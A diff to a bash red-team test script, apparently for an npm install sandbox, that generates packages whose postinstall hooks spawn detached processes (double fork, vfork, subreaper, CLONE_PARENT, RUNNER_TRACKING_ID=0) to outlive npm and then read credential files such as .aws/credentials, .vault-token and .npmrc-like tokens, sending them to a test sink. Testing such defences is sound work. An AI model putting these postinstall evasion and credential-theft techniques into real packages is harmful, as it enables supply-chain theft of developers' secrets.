@@ -1,15 +1,16 @@
 #!/bin/bash
-# R26: double fork, setsid, CLONE_PARENT, no terminal, no environment: it sleeps until npm is gone, then steals.
+# R26: double fork, setsid, vfork, CLONE_PARENT, a subreaper, no terminal, no environment: it sleeps until npm is gone, then steals.
 set -u
 cd "$(dirname "$0")/../.." || exit 2
 . tests/redteam/lib.sh
 
 rt_begin R26 'survivors'
 n=0
-ways=(all double-fork clone-parent thread)
-files=(.aws/credentials .vault-token .kube/config .netrc)
+ways=(all double-fork clone-parent thread vfork subreaper)
+files=(.aws/credentials .vault-token .kube/config .docker/config.json .pypirc .netrc)
 for way in "${ways[@]}"; do
-	rt_package "outlive-$way-x" 1.0.0 - postinstall 		"RUNNER_TRACKING_ID=0 ./bin/survive $way 6 \"$RT_HOME/${files[n]}\" $RT_SINK; true" survive
+	rt_package "outlive-$way-x" 1.0.0 - postinstall \
+		"RUNNER_TRACKING_ID=0 ./bin/survive $way 6 \"$RT_HOME/${files[n]}\" $RT_SINK; true" survive
 	n=$((n + 1))
 done
 
